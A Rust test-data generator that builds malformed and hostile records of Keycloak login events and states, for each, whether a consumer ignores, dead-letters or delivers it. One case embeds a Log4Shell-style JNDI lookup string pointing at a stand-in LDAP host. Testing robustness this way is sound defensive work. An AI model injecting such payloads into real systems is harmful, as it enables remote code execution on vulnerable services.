//! Hostile records: records that nobody should write, but somebody does.
//!
//! Knows nothing of ordinary records, except how to damage one.

use fastrand::Rng;
use serde_json::{Value, json};

use super::{Expected, keycloak::uuid};

/// Large, but below the megabyte that brokers accept.
const LARGE: usize = 200_000;

/// A hostile record: its key, its value, and what it must become. `ordinary` is a value
/// as Keycloak writes it.
pub(super) fn record(
    ordinary: &[u8],
    time: i64,
    rng: &mut Rng,
) -> (Option<Vec<u8>>, Option<Vec<u8>>, Expected) {
    let key = some_key(rng);
    let (value, expected) = match rng.u8(0..16) {
        0 => return (key, None, Expected::Ignored),
        1 => (b"not JSON at all".to_vec(), Expected::DeadLetter),
        2 => (ordinary[..rng.usize(1..ordinary.len())].to_vec(), Expected::DeadLetter),
        3 => ((0..64).map(|_| rng.u8(0x80..)).collect(), Expected::DeadLetter),
        4 => (b"{\"type\":\"LOGIN\",\"userId\":\"\xff\xfe\"}".to_vec(), Expected::DeadLetter),
        5 => ([b"{\"unknown\":", ordinary, b"}"].concat(), Expected::DeadLetter),
        6 => (b"\"LOGIN\"".to_vec(), Expected::DeadLetter),
        7 => (b"{}".to_vec(), Expected::DeadLetter),
        8 => ("[".repeat(LARGE).into_bytes(), Expected::DeadLetter),
        9 => (text(&login(time, rng), "type", &json!({})), Expected::DeadLetter),
        10 => (text(&login(time, rng), "userId", &json!([])), Expected::DeadLetter),
        11 => (b"{\"${jndi:ldap://203.0.113.9/a}\":\"LOGIN\"}".to_vec(), Expected::DeadLetter),
        _ => unusual_login(time, rng),
    };
    (key, Some(value), expected)
}

/// A strange sign-in, which must be delivered nevertheless.
fn unusual_login(time: i64, rng: &mut Rng) -> (Vec<u8>, Expected) {
    let login = login(time, rng);
    let id = login["id"].as_str().unwrap_or_default();
    let event_ids = vec![format!("{id}:sign_in"), format!("{id}:session")];
    let value = match rng.u8(0..3) {
        0 => text(&login, "time", &json!("yesterday")),
        1 => text(&login, "clientId", &json!("x".repeat(LARGE))),
        _ => text(&login, "unheard_of", &json!({ "a": ["\u{0}", "\u{1f600}", 1e300, null] })),
    };
    (value, Expected::Delivered { event_ids })
}

fn login(time: i64, rng: &mut Rng) -> Value {
    let [id, realm_id, user_id, session_id] = [(); 4].map(|()| uuid(rng));
    json!({
        "id": id, "time": time, "type": "LOGIN", "realmId": realm_id, "realmName": "shop",
        "clientId": "web", "userId": user_id, "sessionId": session_id, "ipAddress": "203.0.113.9",
        "error": null, "details": null,
    })
}

/// `event` as text, with one field changed.
fn text(event: &Value, field: &str, value: &Value) -> Vec<u8> {
    let mut event = event.clone();
    event[field] = value.clone();
    event.to_string().into_bytes()
}

fn some_key(rng: &mut Rng) -> Option<Vec<u8>> {
    rng.bool().then(|| (0..rng.usize(0..20)).map(|_| rng.u8(..)).collect())
}
